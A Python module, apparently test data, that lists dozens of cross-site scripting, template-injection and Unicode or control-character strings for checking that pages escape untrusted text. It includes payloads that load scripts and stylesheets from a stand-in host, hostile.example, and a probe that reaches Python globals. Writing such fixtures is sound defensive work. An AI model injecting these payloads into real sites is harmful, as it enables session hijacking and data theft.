"""Texts that would run, or show something else, where a page takes them for more than texts."""

RUNS = "window.hostile=1"
_TEXTS = """\
<script>!</script>
<SCRIPT SRC=//hostile.example/x.js></SCRIPT>
"><script>!</script>
'><script>!</script>
</title><script>!</script>
</textarea><script>!</script>
</pre><script>!</script>
</style><script>!</script>
</script><script>!</script>
--><script>!</script>
]]><script>!</script>
<img src=x onerror=!>
<img src="x" onerror="!"
<img/src=x/onerror=!//
"><img src=x onerror=!>
<svg onload=!>
<svg><script>!</script></svg>
<svg><animate onbegin=! attributeName=x dur=1s>
<svg><a xlink:href="javascript:!"><text y=20>x</text></a></svg>
<math><mtext></p><script>!</script>
<body onload=!>
<iframe src="javascript:!"></iframe>
<iframe srcdoc="<script>parent.!</script>"></iframe>
<object data="javascript:!"></object>
<embed src="javascript:!">
<link rel=stylesheet href=//hostile.example/x.css>
<style>@import '//hostile.example/x.css';</style>
<meta http-equiv=refresh content="0;url=javascript:!">
<base href=//hostile.example/>
<form action="javascript:!"><button>x</button></form>
<input autofocus onfocus=!>
<details open ontoggle=!>
<video><source onerror=!>
<audio src onerror=!>
<marquee onstart=!>
<a href="javascript:!">x</a>
<a href="java\tscript:!">x</a>
<a href="data:text/html,<script>!</script>">x</a>
<template><script>!</script></template>
<noscript><p title="</noscript><img src=x onerror=!>">
" onmouseover="!
' onfocus='!' autofocus='
` onclick=`!`
javascript:!
JaVaScRiPt:!
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
vbscript:!
&lt;script&gt;!&lt;/script&gt;
&#60;script&#62;!&#60;/script&#62;
\\u003cscript\\u003e!\\u003c/script\\u003e
%3Cscript%3E!%3C/script%3E
{{ 7 * 7 }}{% raw %}${7*7}<%= 7*7 %>#{7*7}
{{ self.__init__.__globals__ }}
\u202e<script>!</script>\u202c\u2066
\x1b[31m\x1b]0;title\x07<b>
\ufeff\u200b<script>!</script>
\uff1cscript\uff1e!\uff1c/script\uff1e
\U00012000 \U0001f469\u200d\U0001f467 \u05e0\u05e5 \u1e9e"""

HOSTILE = tuple(line.replace("!", RUNS) for line in _TEXTS.split("\n"))
ALL = " ".join(HOSTILE)
LINES = "\n".join(HOSTILE)
